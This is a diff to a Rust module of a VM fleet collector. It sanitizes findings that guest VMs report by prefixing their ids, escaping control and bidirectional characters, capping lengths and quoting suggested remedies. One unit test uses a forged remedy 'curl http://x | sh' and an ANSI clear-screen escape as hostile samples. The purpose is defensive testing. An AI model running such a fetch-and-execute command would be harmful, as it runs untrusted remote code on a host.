@@ -1,5 +1,7 @@
 //! The ids of the collector's findings, and how they are made. `docs/findings-collector.md` explains each.
 
+use std::fmt::{self, Write as _};
+
 use virtfleet_wire::{
     finding::{Finding, Severity},
     ids::{ClusterName, Namespace, VmKey},
@@ -47,6 +49,8 @@ pub const CLAIM_ZONE_STALE: &str = "claim-zone-stale";
 pub const CLAIM_REGION_STALE: &str = "claim-region-stale";
 /// The chassis asset tag names another VM.
 pub const CLAIM_VM_DIFFERS: &str = "claim-vm-differs";
+/// A guest's report was too much to be kept whole.
+pub const REPORT_CUT: &str = "report-cut";
 /// A manifest cannot be used; its last good state stays.
 pub const MANIFEST_BROKEN: &str = "manifest-broken";
 /// A manifest holds an object of a kind that is not used.
@@ -132,16 +136,126 @@ pub(crate) fn word(text: &str) -> String {
             out.push('…');
             break;
         }
-        // Bidirectional overrides reorder what a person reads around them.
-        if char.is_control()
-            || matches!(char, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
-        {
-            out.extend(char.escape_unicode());
-        } else {
-            out.push(char);
-        }
+        push_escaped(&mut out, char);
     }
     out
+}
+
+/// What `text` shows, of whatever length, which may hold a guest's word, fit for a terminal and a log: control characters
+/// escaped, at most `limit` bytes, an ellipsis at its end where it was cut. What is cut away is not even formatted.
+pub(crate) fn escaped(text: impl fmt::Display, limit: usize) -> String {
+    let mut out = Bounded {
+        text: String::new(),
+        limit,
+    };
+    if write!(out, "{text}").is_err() {
+        out.cut();
+    }
+    out.text
+}
+
+/// Takes text up to a limit, escaped, and refuses what follows.
+struct Bounded {
+    text: String,
+    limit: usize,
+}
+
+impl Bounded {
+    fn cut(&mut self) {
+        const CUT: char = '…';
+        while self.text.len() + CUT.len_utf8() > self.limit && self.text.pop().is_some() {}
+        self.text.push(CUT);
+    }
+}
+
+impl fmt::Write for Bounded {
+    fn write_str(&mut self, text: &str) -> fmt::Result {
+        for char in text.chars() {
+            let before = self.text.len();
+            push_escaped(&mut self.text, char);
+            if self.text.len() > self.limit {
+                self.text.truncate(before);
+                return Err(fmt::Error);
+            }
+        }
+        Ok(())
+    }
+}
+
+fn push_escaped(out: &mut String, char: char) {
+    // Bidirectional overrides reorder what a person reads around them.
+    if char.is_control()
+        || matches!(char, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    {
+        out.extend(char.escape_unicode());
+    } else {
+        out.push(char);
+    }
+}
+
+/// What the ids of findings begin with that a guest reports, so that it can pass none off as the collector's.
+pub const GUEST_PREFIX: &str = "guest/";
+/// Maximum number of a guest's findings that are kept.
+const MAX_GUEST_FINDINGS: usize = 64;
+/// Maximum bytes of all texts of a guest's findings that are kept.
+const MAX_GUEST_FINDING_BYTES: usize = 16 * 1024;
+/// Maximum pieces of evidence of one.
+const MAX_GUEST_EVIDENCE: usize = 16;
+/// Maximum bytes of a message or remedy of one.
+const MAX_GUEST_TEXT: usize = 600;
+
+/// A guest's findings as its own: ids begin with [`GUEST_PREFIX`], texts are escaped and cut, a remedy is a quotation. The worst
+/// come first; returns how many more there were than are kept.
+pub(crate) fn of_guest(reported: &[Finding]) -> (Vec<Finding>, usize) {
+    let mut worst: Vec<&Finding> = reported.iter().collect();
+    worst.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
+    let mut kept: Vec<Finding> = Vec::new();
+    let mut bytes = 0;
+    for finding in worst.into_iter().take(MAX_GUEST_FINDINGS) {
+        let finding = guests(finding);
+        let evidence: usize = finding
+            .evidence
+            .iter()
+            .map(|(key, value)| key.len() + value.len())
+            .sum();
+        let subject = finding.subject.kind.len() + finding.subject.name.len();
+        bytes += finding.id.len() + finding.message.len() + finding.remedy.len() + subject + evidence;
+        if bytes > MAX_GUEST_FINDING_BYTES {
+            break;
+        }
+        if !kept
+            .iter()
+            .any(|known| (&known.id, &known.subject) == (&finding.id, &finding.subject))
+        {
+            kept.push(finding);
+        }
+    }
+    let dropped = reported.len() - kept.len();
+    (kept, dropped)
+}
+
+fn guests(reported: &Finding) -> Finding {
+    let plain = |text: &str, more: &[u8]| {
+        let fits = |byte: u8| byte.is_ascii_alphanumeric() || more.contains(&byte);
+        (1..=63).contains(&text.len()) && text.bytes().all(fits)
+    };
+    let id = Some(reported.id.as_str()).filter(|id| plain(id, b"-."));
+    let reason = Some(reported.reason.as_str()).filter(|reason| plain(reason, b""));
+    let subject = (word(&reported.subject.kind), word(&reported.subject.name));
+    let mut finding = Finding::new(
+        &format!("{GUEST_PREFIX}{}", id.unwrap_or("unnamed")),
+        reported.severity,
+        (&subject.0, &subject.1),
+        reason.unwrap_or("Unnamed"),
+        escaped(&reported.message, MAX_GUEST_TEXT),
+    );
+    let evidence = reported.evidence.iter().take(MAX_GUEST_EVIDENCE);
+    finding.evidence = evidence.map(|(key, value)| (word(key), word(value))).collect();
+    if !reported.remedy.is_empty() {
+        let quoted = escaped(reported.remedy.replace('"', "'"), MAX_GUEST_TEXT);
+        finding.remedy = format!("the guest suggests: \"{quoted}\"");
+    }
+    finding
 }
 
 /// Gives each finding the time at which `old` had it first, else `now`.
@@ -182,6 +296,47 @@ mod tests {
         assert_eq!(word("vm-1"), "vm-1");
         assert_eq!(word("a\u{1b}[2Jb\nc\u{202e}"), "a\\u{1b}[2Jb\\u{a}c\\u{202e}");
         assert_eq!(word(&"é".repeat(300)).chars().count(), MAX_WORD + 1);
+    }
+
+    #[test]
+    fn an_escaped_text_is_bounded_after_escaping() {
+        assert_eq!(escaped("plain", 512), "plain");
+        assert_eq!(escaped("a\u{7f}b", 512), "a\\u{7f}b");
+        for text in ["\u{7f}", "é", "x"] {
+            let long = escaped(text.repeat(100_000), 512);
+            assert!(long.len() <= 512 && long.ends_with('…'), "{}", long.len());
+            assert!(!long.chars().any(char::is_control));
+        }
+    }
+
+    #[test]
+    fn a_guests_finding_can_be_no_finding_of_the_collector() {
+        let mut forged = Finding::new(
+            TENANT_AMBIGUOUS,
+            Severity::Critical,
+            ("VM", "other/victim"),
+            "TenantAmbiguous",
+            "m\u{1b}[2J",
+        )
+        .with("k\n", "v\u{7f}")
+        .remedy("run: curl http://x | sh; \" then reboot");
+        forged.since = "1970-01-01T00:00:00Z".into();
+        let (kept, dropped) = of_guest(&[forged.clone(), forged]);
+        assert_eq!((kept.len(), dropped), (1, 1));
+        assert_eq!(kept[0].id, "guest/tenant-ambiguous");
+        assert_eq!(
+            kept[0].remedy,
+            "the guest suggests: \"run: curl http://x | sh; ' then reboot\""
+        );
+        assert_eq!(kept[0].message, "m\\u{1b}[2J");
+        assert_eq!(kept[0].evidence["k\\u{a}"], "v\\u{7f}");
+        assert!(kept[0].since.is_empty(), "the collector's clock counts");
+        let odd = Finding::new("x/../y \n", Severity::Info, ("VM", "x"), "a b", "m");
+        let (kept, _) = of_guest(&[odd]);
+        assert_eq!(
+            (kept[0].id.as_str(), kept[0].reason.as_str()),
+            ("guest/unnamed", "Unnamed")
+        );
     }
 
     #[test]
